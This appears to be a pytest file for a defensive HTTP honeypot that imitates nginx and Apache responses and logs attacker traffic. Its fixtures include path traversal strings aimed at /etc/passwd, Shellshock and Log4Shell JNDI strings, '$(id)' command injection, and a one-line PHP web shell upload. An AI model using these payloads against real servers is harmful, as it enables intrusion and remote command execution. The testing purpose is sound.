# SPDX-License-Identifier: MIT
"""The http lure against what the real servers answered, byte for byte."""

import asyncio
import json
import re
from pathlib import Path

import pytest

from decnet.domain.captured import raw, text
from decnet.lures.http.server import Http
from decnet.lures.http.site import Site
from tests.lures.http.web import APACHE, request, web
from tests.support.lures import ask, serving

MOMENT = 1_706_933_106


def comparison_lure(software: str, server: str) -> Http:
    """Return a lure with the files that the real servers were asked for."""
    lure = web(software, "web01")
    is_apache = server == "apache"
    forbidden = ("/server-status",) if is_apache else ("/nginx_status",)
    site = Site(server=server, protected=("/admin",) if is_apache else ("/admin/",), forbidden=forbidden)
    site.add("/index.html", "<h1>It works!</h1>\n", MOMENT)
    site.add("/robots.txt", "User-agent: *\n", MOMENT)
    site.add("/files/a.txt", "0123456789\n", MOMENT)
    site.add("/files/b.tar.gz", "zz", MOMENT)
    lure.resources.site = site
    return lure


def table(name: str) -> list[tuple[str, str, str]]:
    """Return (name, request, answer) as recorded from a real server."""
    return [(row[0], row[1], row[2]) for row in json.loads((Path(__file__).parent / f"{name}.json").read_text())]


def comparable(answer: bytes) -> str:
    """Return an answer without what differs from one moment to the next."""
    shown = re.sub(r"Date: [^\r]+", "Date: -", answer.decode("latin-1"))
    shown = re.sub(r"boundary=[0-9a-f]{16,20}\b", "boundary=-", shown)
    return re.sub(r"--[0-9a-f]{16,20}\b", "---", shown)


@pytest.mark.parametrize(("software", "server", "name"), [
    ("nginx/1.22.1", "nginx", "nginx-1.22.1"),
    ("Apache/2.4.71 (Debian)", "apache", "apache-2.4.71"),
])  # fmt: skip
async def test_lure_answers_as_the_real_server(software: str, server: str, name: str) -> None:
    """Status line, header names, their order and values, and error pages are those of the real server."""
    differences = []
    async with serving(comparison_lure(software, server), idle_seconds=5) as served:
        for label, request, expected in table(name):
            answer = comparable(await ask(served, request.encode("latin-1")))
            wanted = comparable(expected.encode("latin-1")).replace(":18080/", f":{served.port}/")
            if answer != wanted:
                differences.append(f"{label}\n  want {wanted!r}\n  got  {answer!r}")
    assert not differences, "\n".join(differences)


@pytest.mark.parametrize("software", ["nginx/1.18.0", APACHE])
@pytest.mark.parametrize(
    "path",
    [
        "/../etc/passwd",
        "/%2e%2e/etc/passwd",
        "/a/..%2f..%2fetc/passwd",
        "/..%5c..%5cetc/passwd",
        "//etc/passwd",
        "/.%00./etc/passwd",
    ],
)
async def test_traversal_never_leaves_the_planted_site(software: str, path: str) -> None:
    async with serving(web(software)) as served:
        answer = await ask(served, request(f"GET {path} HTTP/1.1"))
    assert answer.split()[1] in (b"400", b"404")
    assert served.pen.bodies("request")[0].target == path


async def test_request_record_keeps_hostile_bytes_exactly() -> None:
    """Newline escapes, brackets and invalid UTF-8 come back from the record as they were sent."""
    field = b"() { :;}; ]\xff\xfe %0A ${jndi:ldap://x/y} \xc3\xa9"
    async with serving(web()) as served:
        await ask(served, b"GET /a]%0Ab\xff?x=$(id) HTTP/1.1\r\nHost: x\r\nX-Odd: " + field + b"\r\n\r\n")
    record = served.pen.bodies("request")[0]
    assert raw(record.target) == b"/a]%0Ab\xff?x=$(id)"
    assert [(raw(name), raw(value)) for name, value in record.headers] == [(b"Host", b"x"), (b"X-Odd", field)]


async def test_nul_in_a_field_is_refused_and_recorded() -> None:
    async with serving(web()) as served:
        answer = await ask(served, b"GET / HTTP/1.1\r\nHost: x\r\nX: a\0b\r\n\r\n")
    assert answer.startswith(b"HTTP/1.1 400")
    assert ("X", text(b"a\0b")) in served.pen.bodies("request")[0].headers


async def test_tls_hello_is_a_violation() -> None:
    async with serving(web()) as served:
        answer = await ask(served, b"\x16\x03\x01\x00\xa5\x01\x00")
    assert answer.startswith(b"HTTP/1.1 400")
    assert raw(served.pen.bodies("violation")[0].data) == b"\x16\x03\x01\x00\xa5\x01\x00"
    assert served.pen.ended[0].reason == "protocol"


async def test_requests_in_single_bytes_and_pipelined_are_all_answered() -> None:
    wire = request("GET /robots.txt HTTP/1.1") + request("GET /nope HTTP/1.1") + request("HEAD / HTTP/1.1", "Connection: close")
    async with serving(web()) as served:
        answer = await ask(served, *[wire[index : index + 1] for index in range(len(wire))])
    assert re.findall(rb"HTTP/1.1 (\d+)", answer) == [b"200", b"404", b"200"]
    assert [body.status for body in served.pen.bodies("request")] == [200, 404, 200]


async def test_silent_client_is_ended_by_the_idle_bound() -> None:
    async with serving(web(), idle_seconds=0.05) as served:
        reader, writer = await asyncio.open_connection(served.host, served.port)
        assert await asyncio.wait_for(reader.read(), 10) == b""
        writer.close()
        await served.session_ended()
    assert served.pen.ended[0].reason == "idle"


async def test_torn_request_is_recorded_without_its_secret() -> None:
    async with serving(web()) as served:
        await ask(served, b"GET / HTTP/1.1\r\nAuthorization: Basic c2VjcmV0OnNlY3JldA==\r\n")
    data = served.pen.bodies("violation")[0].data
    assert "Authorization: Basic [secret]" in data
    assert "c2Vj" not in data


@pytest.mark.parametrize("software", ["nginx/1.18.0", APACHE])
async def test_endless_request_is_ended_by_the_byte_bound(software: str) -> None:
    endless = b"POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n" + b"10000\r\n" + b"x" * 65536 + b"\r\n"
    async with serving(web(software), byte_limit=300_000, idle_seconds=5) as served:
        reader, writer = await asyncio.open_connection(served.host, served.port)
        writer.write(endless + (b"10000\r\n" + b"x" * 65536 + b"\r\n") * 20)
        await asyncio.wait_for(reader.read(), 10)
        writer.transport.abort()
        await served.session_ended()
    assert served.pen.ended[0].reason == "bytes"
    assert served.pen.ended[0].received < 600_000


async def test_nginx_answers_a_body_that_does_not_come_and_goes_on_after_it() -> None:
    """A body that pauses gets its answer; what comes of it later is counted, not taken for a request."""
    async with serving(web(), idle_seconds=10) as served:
        reader, writer = await asyncio.open_connection(served.host, served.port)
        async with asyncio.timeout(10):
            writer.write(b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 8\r\n\r\nabc")
            assert (await reader.readline()).startswith(b"HTTP/1.1 405")
            await reader.readuntil(b"</html>\r\n")
            writer.write(b"GET /x" + request("GET /robots.txt HTTP/1.1", "Connection: close")[1:])
            writer.write_eof()
            rest = await reader.read()
        writer.close()
        await served.session_ended()
    first = served.pen.bodies("request")[0]
    assert (first.method, first.body_size) == ("POST", 3)
    assert "5 bytes of a body came after its answer" in [body.reason for body in served.pen.bodies("violation")]
    assert rest.startswith(b"HTTP/1.1 400")


async def test_two_decoys_plant_different_sites() -> None:
    sites = [set(web(seed=f"seed {number}").resources.site.pages) for number in range(8)]
    icons = {web(seed=f"seed {number}").resources.site.pages["/favicon.ico"].content for number in range(8)}
    assert len({frozenset(site) for site in sites}) > 4
    assert len(icons) == 8


async def test_folder_of_backups_is_listed_by_apache() -> None:
    lure = web(APACHE)
    folder = next(
        line.split()[1]
        for line in lure.resources.site.pages["/robots.txt"].content.decode().splitlines()
        if "admin" not in line and "Dis" in line
    )
    async with serving(lure) as served:
        answer = await ask(served, request(f"GET {folder} HTTP/1.1"))
    assert b"<title>Index of " + folder.rstrip("/").encode() in answer
    assert b".sql.gz" in answer


async def test_put_body_is_captured_as_a_file() -> None:
    async with serving(web(APACHE)) as served:
        await ask(served, request("PUT /shell.php HTTP/1.1", body=b"<?php system($_GET[0]);"))
    file = served.pen.bodies("file")[0]
    assert (file.path, file.direction, file.size) == ("/shell.php", "upload", 23)
    assert served.pen.blobs[file.sha256] == b"<?php system($_GET[0]);"


async def test_connection_of_nginx_ends_after_its_hundredth_request() -> None:
    async with serving(web()) as served:
        answer = await ask(served, request("GET /nope HTTP/1.1") * 120)
    assert answer.count(b"HTTP/1.1 404") == 100
    assert answer.count(b"Connection: close") == 1
